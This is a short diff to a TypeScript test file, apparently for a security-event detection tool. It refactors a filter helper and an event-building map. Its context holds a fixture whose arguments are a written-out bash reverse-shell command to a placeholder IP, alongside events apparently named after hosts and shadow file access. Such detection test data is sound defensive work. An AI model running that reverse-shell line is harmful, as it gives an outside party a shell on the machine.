@@ -25,8 +25,9 @@ const shell = {
   arguments: "bash -i >& /dev/tcp/198.51.100.4/443 0>&1",
 };
 
+const select = (): boolean => true;
+
 test("a filter that misses a chosen event is not offered", () => {
-  const select = (): boolean => true;
   const fold = createChoiceFold({ select, fields: ["user", "exe"] });
   for (const event of [hosts, shadow]) fold.add(event, 0);
   const choice = finish(fold.endInSteps());
@@ -120,12 +121,9 @@ test("of a notable act that was chosen by name, the same from another machine st
 test("an alert still fires where enough events are left", () => {
   const own = [
     hosts,
-    ...[1, 2, 3].map((index) => ({
-      ...hosts,
-      _id: `n${String(index)}`,
-      user: "app",
-      exe: "/bin/x",
-    })),
+    ...[1, 2, 3].map((index) =>
+      Object.assign({}, hosts, { _id: `n${String(index)}`, user: "app", exe: "/bin/x" }),
+    ),
   ];
   const unfired = (threshold: number): number | undefined => {
     const { draft } = runDraft({ own, selection: { eventIds: ["hosts"] }, threshold });
